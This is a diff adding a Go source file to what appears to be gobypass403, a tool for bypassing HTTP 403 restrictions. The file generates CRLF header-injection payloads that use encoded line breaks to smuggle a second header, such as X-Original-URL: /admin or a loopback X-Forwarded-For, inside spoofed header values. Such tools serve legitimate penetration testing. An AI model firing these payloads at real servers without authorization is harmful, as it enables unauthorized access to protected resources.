@@ -0,0 +1,108 @@
+package payload
+
+import (
+	"strings"
+
+	"github.com/slicingmelon/go-rawurlparser"
+	GB403Logger "github.com/slicingmelon/gobypass403/core/utils/logger"
+)
+
+// crlfSequences are the encoded line breaks appended to the spoof header values. They are
+// sent as is by the raw request writer, a server or proxy decoding them before parsing the
+// headers sees a second header.
+var crlfSequences = []string{
+	"%0d%0a",
+	"%0a",
+	"%0d",
+	"%E5%98%8A%E5%98%8D", // U+560A U+560D, truncated to \n\r by some parsers
+}
+
+/*
+GenerateHeaderCRLFInjectionPayloads generates payloads smuggling a second header inside the
+value of an IP/URL spoof header, through an encoded CR/LF. Opt-in only (-allow-crlf-injection),
+it is never part of -m all on its own.
+
+It reads header names from header_ip_hosts.lst and header_urls.lst, plus the -spoof-header
+headers, e.g.:
+  - X-Forwarded-For: 127.0.0.1%0d%0aX-Original-URL: /admin
+  - X-Original-URL: /admin%0aX-Forwarded-For: 127.0.0.1
+
+IP headers get a loopback IP followed by an X-Original-URL header with the original path,
+URL headers get the original path followed by an X-Forwarded-For header with a loopback IP.
+Each is sent with every line break of crlfSequences (%0d%0a, %0a, %0d and the
+U+560A U+560D pair).
+
+The original URL's method, scheme, host, path and query string are preserved.
+Duplicate header/value pairs are removed.
+*/
+func (pg *PayloadGenerator) GenerateHeaderCRLFInjectionPayloads(targetURL string, bypassModule string) []BypassPayload {
+	var allJobs []BypassPayload
+
+	parsedURL, err := rawurlparser.RawURLParse(targetURL)
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to parse URL: %s", targetURL)
+		return allJobs
+	}
+
+	ipHeaders, err := ReadPayloadsFromFile("header_ip_hosts.lst")
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to read IP header names: %v", err)
+	}
+	urlHeaders, err := ReadPayloadsFromFile("header_urls.lst")
+	if err != nil {
+		GB403Logger.Error().Msgf("Failed to read URL header names: %v", err)
+	}
+
+	// Custom spoof headers (-spoof-header) carry IPs, like in headers_ip
+	for _, header := range strings.Split(pg.spoofHeader, ",") {
+		if header = strings.TrimSpace(header); header != "" {
+			ipHeaders = append(ipHeaders, header)
+		}
+	}
+
+	path := parsedURL.Path
+	if path == "" {
+		path = "/"
+	}
+	pathAndQuery := path
+	if parsedURL.Query != "" {
+		pathAndQuery += "?" + parsedURL.Query
+	}
+
+	baseJob := BypassPayload{
+		OriginalURL:  targetURL,
+		Method:       "GET",
+		Scheme:       parsedURL.Scheme,
+		Host:         parsedURL.Host,
+		RawURI:       pathAndQuery,
+		BypassModule: bypassModule,
+	}
+
+	seen := make(map[Headers]struct{})
+	addJobs := func(headerNames []string, value string, injected string) {
+		for _, name := range headerNames {
+			name = strings.TrimSpace(name)
+			if name == "" {
+				continue
+			}
+			for _, crlf := range crlfSequences {
+				header := Headers{Header: name, Value: value + crlf + injected}
+				if _, ok := seen[header]; ok {
+					continue
+				}
+				seen[header] = struct{}{}
+
+				job := baseJob
+				job.Headers = []Headers{header}
+				job.PayloadToken = GeneratePayloadToken(job)
+				allJobs = append(allJobs, job)
+			}
+		}
+	}
+
+	addJobs(ipHeaders, "127.0.0.1", "X-Original-URL: "+path)
+	addJobs(urlHeaders, path, "X-Forwarded-For: 127.0.0.1")
+
+	GB403Logger.Debug().BypassModule(bypassModule).Msgf("Generated %d payloads for %s", len(allJobs), targetURL)
+	return allJobs
+}